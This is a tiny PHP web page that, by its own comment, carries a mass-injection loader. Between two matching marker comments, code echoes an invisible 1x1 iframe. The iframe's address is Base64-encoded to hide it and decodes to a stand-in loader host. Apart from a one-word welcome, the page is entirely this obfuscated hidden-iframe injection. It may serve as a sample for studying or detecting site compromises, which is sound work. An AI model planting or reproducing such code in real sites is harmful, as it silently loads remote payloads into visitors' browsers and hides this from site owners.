<?php
// A page carrying a mass-injection loader between two matching markers; the frame's address is kept
// Base64-encoded so that the page's own text does not show it.
?><html><body><p>Welcome.</p>
<?php
#a7c31f09#
if (!isset($zz)) {
    $zz = "<iframe src=\"" . base64_decode('aHR0cDovL2xvYWRlci5leGFtcGxlLmludmFsaWQvZy5waHA=') . "\" width=\"1\" height=\"1\" style=\"visibility:hidden\"></iframe>";
    echo $zz;
}
#/a7c31f09#
?>
</body></html>
